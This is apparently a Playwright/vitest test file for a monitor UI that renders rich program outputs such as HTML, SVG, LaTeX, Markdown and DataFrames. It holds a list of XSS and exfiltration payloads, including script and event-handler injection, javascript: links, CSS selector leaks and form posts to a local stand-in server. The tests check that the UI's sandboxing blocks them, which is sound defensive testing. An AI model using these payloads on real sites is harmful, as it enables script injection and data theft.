import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { faultsOf } from "./monitor-axe.ts";
import { Monitor } from "./monitor-kit.ts";
import { openShown, type Shown } from "./shown-run.ts";

let monitor: Monitor;
let page: Page;
/** What the page asked for, and from where; what its policy stopped never left the browser. */
const requests = new Set<string>();
/** Who was reached elsewhere: a server that counts connections, whatever is asked on them. */
let reached = 0;
const elsewhere = createServer((_request, response) => response.end()).on("connection", () => {
  reached += 1;
});
let outside = "";
const dialogs: string[] = [];

beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  outside = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  monitor = await Monitor.start();
  page = await monitor.open("runs");
  page.on("request", (request) => requests.add(request.url()));
  page.on("requestfailed", (request) => {
    if (request.failure()?.errorText === "csp") requests.delete(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
});

afterAll(async () => {
  elsewhere.close();
  await monitor?.[Symbol.asyncDispose]();
});

const open = (shown: Shown) => openShown(monitor, page, shown);

/** What an attacker tries in a value that is shown, or in what a model says. */
const hostileValues = (): readonly string[] => [
  "<script>parent.hacked=top.hacked=window.hacked=1;alert(1)</script>",
  "<img src=x onerror=\"top.hacked=1;alert('image')\">",
  "<svg onload=top.hacked=1><script>top.hacked=1</script><animate onbegin=top.hacked=1 attributeName=x dur=1s /></svg>",
  `<a id=lure href="javascript:top.hacked=1" target=_top>press</a>`,
  `<style>@import url(${outside}/import.css); body{background:url(${outside}/css.png)} @font-face{font-family:x;src:url(${outside}/f.woff2)} td{font-family:x}</style><table><tr><td>x</td></tr></table>`,
  `<p style="background-image:url(${outside}/style.png)">styled</p>`,
  `<input value=secret><style>input[value^=s]{background:url(${outside}/leak?s)}</style>`,
  `<meta http-equiv=refresh content="0;url=${outside}/refresh">`,
  `<form id=f action="${outside}/form" method=post target=_top><input name=a value=b><button id=send>send</button></form>`,
  `<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>`,
  `<object data="${outside}/object"></object><embed src="${outside}/embed">`,
  `<link rel=stylesheet href="${outside}/link.css"><link rel=prefetch href="${outside}/prefetch"><link rel=dns-prefetch href="${outside}">`,
  `<base href="${outside}/"><img src="relative.png"><picture><source srcset="${outside}/set.png"><img></picture>`,
  `<video src="${outside}/v.mp4" poster="${outside}/poster.png" autoplay></video><audio src="${outside}/a.mp3" autoplay></audio>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="top.hacked=1"></style></mglyph></table></mtext></math>`,
  '<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>',
  "</style></iframe><script>top.hacked=1</script>",
  `<div style="position:fixed;inset:0">over the page</div><details open ontoggle=top.hacked=1>x</details>`,
  `<body onload="top.hacked=1" background="${outside}/body.png"><img src="${outside.slice(5)}/scheme.png">`,
  `<img src="${"/monitor/api/session"}"><a href="${outside}/ping" ping="${outside}/ping">x</a>`,
  `<template shadowrootmode=open><img src="${outside}/shadow.png"></template><svg><image href="${outside}/svg.png"/><use href="${outside}/use.svg#x"/></svg>`,
];

const outgoing = () => [...requests].filter((url) => url.startsWith(outside) || url.includes("/relative.png"));

describe("rich results", () => {
  it("should run nothing and ask nobody for anything, whatever a program shows as HTML", async () => {
    requests.clear();
    const hostile = hostileValues();
    await open({ values: hostile.map((html) => ({ "text/html": html, "text/plain": "plain" })) });
    const frames = page.locator("iframe.html-frame");
    await frames.nth(hostile.length - 1).waitFor();
    expect(await frames.count()).toBe(hostile.length);
    for (const frame of await frames.all()) {
      expect(await frame.getAttribute("sandbox")).toBe("");
      await frame.scrollIntoViewIfNeeded();
      await frame.click();
      for (const press of await frame.contentFrame().locator("a, button, input, summary").all())
        await press.click({ force: true, timeout: 300 }).catch(() => undefined);
    }
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(dialogs).toEqual([]);
    await expect.poll(outgoing).toEqual([]);
    expect(reached).toBe(0);
    expect(page.url()).toContain("/monitor/bundle");
    expect(page.frames().every((frame) => /^(about:srcdoc|http:\/\/127)/.test(frame.url()))).toBe(true);
  });

  it("should run nothing of drawings, formulas and Markdown", async () => {
    requests.clear();
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked=1"><script>top.hacked=1</script><image href="${outside}/i.png"/></svg>`;
    const tex = `\\href{javascript:top.hacked=1}{x}\\includegraphics{${outside}/t.png}\\htmlData{a=b}{x}`;
    const markdown = `[press](javascript:top.hacked=1) ![picture](${outside}/m.png) <img src=x onerror=top.hacked=1>`;
    await open({
      said: `${markdown}\n\n${hostileValues().join("\n\n")}`,
      values: [{ "image/svg+xml": svg }, { "text/latex": tex }, { "text/markdown": markdown }],
    });
    await page.locator(".formula math").waitFor();
    await page.getByText("press", { exact: true }).first().click();
    expect(await page.evaluate(() => "hacked" in window)).toBe(false);
    expect(dialogs).toEqual([]);
    await expect.poll(outgoing).toEqual([]);
    expect(reached).toBe(0);
    expect(await page.locator(".transcript").locator("script, [onerror], [onload], [href^='javascript']").count()).toBe(
      0,
    );
  });

  it("should draw Markdown, and code with numbers of lines and a button that copies it", async () => {
    await open({
      said: "# Title\n\nSome **bold** and `code`.\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | שלום |\n\n```python\ndef f():\n    return 'x'\n```\n",
    });
    await page.getByRole("heading", { name: "Title" }).waitFor();
    expect(await page.locator(".markdown strong").textContent()).toBe("bold");
    expect(await page.locator(".markdown ol li").allInnerTexts()).toEqual(["one", "two"]);
    expect(await page.locator(".markdown td").allInnerTexts()).toEqual(["1", "שלום"]);
    expect(await page.locator(".markdown .code-line").count()).toBe(2);
    expect(await page.locator(".markdown .hljs-keyword").first().textContent()).toBe("def");
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.locator(".markdown").getByRole("button", { name: "Copy the code" }).click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe("def f():\n    return 'x'");
    expect(await faultsOf(page)).toEqual([]);
  });

  it("should draw a DataFrame as a table that sorts and is saved as CSV", async () => {
    const row = (...cells: string[]) => `<tr><th>${cells[0]}</th><td>${cells.slice(1).join("</td><td>")}</td></tr>`;
    const html = `<div><style scoped>.dataframe td{}</style><table border="1" class="dataframe"><thead><tr><th></th><th>n</th><th>name</th></tr></thead>
<tbody>${row("0", "10", "=SUM(A1)")}${row("1", "9", "日本, 語")}${row("2", "NaN", "שלום")}</tbody></table><p>3 rows × 2 columns</p></div>`;
    await open({ values: [{ "text/html": html, "text/plain": "plain" }] });
    const numbers = () => page.locator(".data-table tbody td:nth-child(2)").allInnerTexts();
    expect(await numbers()).toEqual(["10", "9", "NaN"]);
    await page.getByRole("button", { name: "n", exact: true }).click();
    expect(await numbers()).toEqual(["9", "10", "NaN"]);
    await page.keyboard.press("Enter");
    expect(await numbers()).toEqual(["10", "9", "NaN"]);
    await page.getByText("3 rows × 2 columns").waitFor();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Save as CSV" }).click(),
    ]);
    expect(readFileSync(await download.path(), "utf8")).toBe(
      ',n,name\r\n0,10,\'=SUM(A1)\r\n1,9,"日本, 語"\r\n2,NaN,שלום\r\n',
    );
    expect(await faultsOf(page)).toEqual([]);
  });

  it("should draw the formulas of an answer, and take no price for one", async () => {
    const said =
      "It is \\(a_1 + b_1\\), or $x_i^2$ and\n\n$$\nE = mc^2\n$$\n\n\\[ \\frac{1}{2} \\]\n\nIt costs $5 and $10, US$5-A$6. `$a$` AT&amp;T &lt;b&gt;";
    await open({ said });
    const shown = page.locator(".markdown");
    await expect.poll(() => shown.locator("math").count()).toBe(4);
    await shown.getByText("It costs $5 and $10, US$5-A$6. $a$ AT&T <b>").waitFor();
    expect(await shown.locator(".formula math[display=block]").count()).toBe(2);
    expect(await shown.textContent()).not.toContain("\\");
  });

  it("should draw groups, nested columns and names of an index as columns that sort", async () => {
    const inner = `<thead><tr><th></th><th colspan="2" halign="left">A</th><th>B</th></tr><tr><th></th><th>x</th><th>y</th><th>z</th></tr><tr><th>k</th><th></th><th></th><th></th></tr></thead>
<tbody><tr><th rowspan="2" valign="top">one</th><td>1</td><td>inf</td><td>5</td></tr><tr><td>2</td><td>-inf</td><td>4</td></tr><tr><th>two</th><td>3</td><td>7</td><td>x</td></tr></tbody>`;
    await open({ values: [{ "text/html": `<table border="1" class="dataframe">${inner}</table>`, "text/plain": "" }] });
    const table = page.locator(".data-table");
    expect(await table.locator("thead th").allInnerTexts()).toEqual(["k\n↕", "A · x\n↕", "A · y\n↕", "B · z\n↕"]);
    const cells = (column: number) => table.locator(`tbody td:nth-child(${column})`).allInnerTexts();
    expect(await cells(1)).toEqual(["one", "one", "two"]);
    await table.getByRole("button", { name: "A · y" }).click();
    expect(await cells(3)).toEqual(["-inf", "7", "inf"]);
    await table.getByRole("button", { name: "B · z" }).click();
    expect(await cells(4)).toEqual(["4", "5", "x"]);
  });

  it("should leave out nothing that stands beside a table of data", async () => {
    const table = `<table class="dataframe"><thead><tr><th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>1</td></tr></tbody></table>`;
    for (const [before, after] of [
      ["<h2>Sales report</h2>", ""],
      ["", "<b>Sales report</b>"],
      ["Sales report", ""],
      ["<p>Sales report</p>", "<p>1 rows × 1 columns</p>"],
      [table, "<p>Sales report</p>"],
    ]) {
      await open({ values: [{ "text/html": `${before}${table}${after}`, "text/plain": "plain" }] });
      const shown = page.locator("iframe.html-frame").contentFrame();
      await shown.getByText("Sales report").waitFor();
      await shown.getByRole("columnheader", { name: "a" }).first().waitFor();
    }
  });

  it("should save no row that pandas left out as if it were one, and say so", async () => {
    const row = (cell: string) => `<tr><th>${cell}</th><td>${cell}</td><td>...</td></tr>`;
    const html = `<div><table class="dataframe"><thead><tr><th></th><th>n</th><th>...</th></tr></thead><tbody>${row("0")}${row("...")}${row("9999")}</tbody></table><p>10000 rows × 40 columns</p></div>`;
    await open({ values: [{ "text/html": html, "text/plain": "plain" }] });
    await page.getByText("The program showed 2 of them.", { exact: false }).waitFor();
    await page.getByRole("button", { name: "n", exact: true }).click();
    const rows = page.locator(".data-table tbody tr");
    expect(await rows.allInnerTexts()).toEqual(["0\t0\t...", "9999\t9999\t..."]);
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Save as CSV" }).click(),
    ]);
    expect(readFileSync(await download.path(), "utf8")).toBe(",n\r\n0,0\r\n9999,9999\r\n");
  });

  it("should keep the styles of HTML that a program shows", async () => {
    await open({
      values: [{ "text/html": "<style>b{color:rgb(1,2,3)}</style><b>x</b><i style='color:rgb(4,5,6)'>y</i>" }],
    });
    const shown = page.locator("iframe.html-frame").contentFrame();
    const colour = (tag: string) => shown.locator(tag).evaluate((element) => getComputedStyle(element).color);
    expect([await colour("b"), await colour("i")]).toEqual(["rgb(1, 2, 3)", "rgb(4, 5, 6)"]);
  });
});
